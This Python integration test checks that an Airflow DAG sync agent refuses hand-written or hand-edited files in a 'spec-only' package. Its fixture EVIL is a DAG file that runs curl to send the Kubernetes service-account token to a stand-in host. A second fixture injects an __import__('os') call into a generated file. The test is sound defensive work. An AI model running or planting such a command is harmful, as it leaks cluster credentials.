"""Spec-only packages end to end (issue 26, "must show 3"): the real `airflow-dag-publisher` (generate,
publish) and the real `airflow-dag-sync` process with `--packages-file` on SeaweedFS. Package alpha is
spec-only: its generated release is applied; a release that adds a hand-written DAG file, or edits a
generated one, is refused by the agent (reason `not_generated`) even when its CI skipped the
publisher's own check, and alpha stays on its generated files; beta, not spec-only, ships what it likes."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from airflow_dag_publisher.storage import Storage, manifest_key

from tests.reliability.support import Agent, read_tree, wait_for

from .helpers import write_dag

pytestmark = pytest.mark.usefixtures("s3_env")
PUBLISHER = str(Path(sys.executable).parent / "airflow-dag-publisher")
IMAGE = "registry.example.com/alpha/jobs:1.0.1"
LIST = """\
allowed_registries: [registry.example.com]
packages:
  - name: alpha
    spec_only: true
  - name: beta
"""
SPEC = """\
package: alpha
image: registry.example.com/alpha/jobs:1.0.0
jobs:
  - name: daily
    schedule: "0 3 * * *"
"""
EVIL = b"import os\nos.system('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token evil.example')\n"


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([PUBLISHER, *args], capture_output=True, text=True, timeout=300, check=False,
                          env=dict(os.environ))


def generated_source(root: Path, spec: str = SPEC) -> Path:
    """alpha's folder after CI's generate step: jobs.yaml and airflow_dags/ rendered with CI's image."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "jobs.yaml").write_text(spec)
    done = cli("generate", "--spec", str(root / "jobs.yaml"), "--image", IMAGE, "--output-dir",
               str(root / "airflow_dags"))
    assert done.returncode == 0, done.stderr
    return root


def publish(bucket: str, root: Path, packages: Path, package: str = "alpha") -> subprocess.CompletedProcess[str]:
    spec = ["--spec", str(root / "jobs.yaml")] if (root / "jobs.yaml").exists() else []
    return cli("publish", "--env", "dev", "--bucket", bucket, "--package", package, "--source",
               str(root / "airflow_dags"), *spec, "--packages-file", str(packages), "--skip-dynamic-validation",
               "--json")


def release_id(bucket: str, package: str) -> str:
    obj = Storage(bucket).get(manifest_key("dev", package)).obj
    assert obj is not None
    return str(json.loads(obj.body)["release_id"])


def test_a_spec_only_package_applies_only_what_the_generator_renders(tmp_path: Path, bucket: str) -> None:
    packages = tmp_path / "packages.yaml"
    packages.write_text(LIST)
    lying_list = tmp_path / "ci-says-not-spec-only.yaml"  # what a CI that skips the platform's check uses
    lying_list.write_text(LIST.replace("    spec_only: true\n", ""))
    good = generated_source(tmp_path / "alpha")
    done = publish(bucket, good, packages)
    assert done.returncode == 0, done.stdout + done.stderr
    generated = {"jobs.yaml": SPEC.encode(), "alpha_daily.py": (good / "airflow_dags" / "alpha_daily.py").read_bytes()}
    beta = tmp_path / "beta"
    write_dag(beta / "airflow_dags", "beta", "daily")
    (beta / "airflow_dags" / "beta_helper.py").write_bytes(b"HAND_WRITTEN = True\n")
    assert publish(bucket, beta, packages, "beta").returncode == 0

    dags = tmp_path / "dags"
    with Agent(bucket, "dev", dags, tmp_path / "agent.log", interval=0.2,
               extra=("--reconcile-interval", "1", "--packages-file", str(packages))) as agent:
        assert wait_for(lambda: read_tree(dags / "alpha") == generated, timeout=60), agent.log_text()[-3000:]
        assert wait_for(lambda: (dags / "beta" / "beta_helper.py").exists(), timeout=60)
        applied = release_id(bucket, "alpha")

        # 1. alpha's release adds a hand-written DAG file. The publisher refuses it with the platform's list...
        evil = tmp_path / "alpha-evil"
        shutil.copytree(good, evil)
        (evil / "airflow_dags" / "alpha_evil.py").write_bytes(EVIL)
        refused_here = publish(bucket, evil, packages)
        assert refused_here.returncode == 1 and "alpha_evil.py" in refused_here.stdout + refused_here.stderr
        assert release_id(bucket, "alpha") == applied  # nothing was published
        # ... and a CI that skips that check publishes it anyway: the agent refuses it.
        assert publish(bucket, evil, lying_list).returncode == 0
        assert wait_for(lambda: agent.metric("dagsync_refused_manifests_total", package="alpha",
                                             reason="not_generated") >= 1, timeout=60), agent.log_text()[-3000:]
        assert read_tree(dags / "alpha") == generated

        # 2. a generated file edited by hand
        edited = tmp_path / "alpha-edited"
        shutil.copytree(good, edited)
        daily = edited / "airflow_dags" / "alpha_daily.py"
        daily.write_bytes(daily.read_bytes().replace(b"catchup=False", b"catchup=bool(__import__('os').getpid())"))
        assert publish(bucket, edited, lying_list).returncode == 0
        assert wait_for(lambda: agent.metric("dagsync_refused_manifests_total", package="alpha",
                                             reason="not_generated") >= 2, timeout=60), agent.log_text()[-3000:]
        assert read_tree(dags / "alpha") == generated

        # 3. the next generated release (a second job) is applied
        second = generated_source(tmp_path / "alpha-v2", SPEC + "  - name: hourly\n    schedule: \"@hourly\"\n")
        assert publish(bucket, second, packages).returncode == 0
        assert wait_for(lambda: set(read_tree(dags / "alpha")) == {"jobs.yaml", "alpha_daily.py", "alpha_hourly.py"},
                        timeout=60), agent.log_text()[-3000:]
        log = agent.log_text()
    assert "alpha_evil.py: not a file the generator renders from jobs.yaml" in log
    assert "alpha_daily.py: differs from what the generator renders from jobs.yaml" in log
    assert "Traceback" not in log
    assert not list(dags.glob("alpha/alpha_evil.py"))
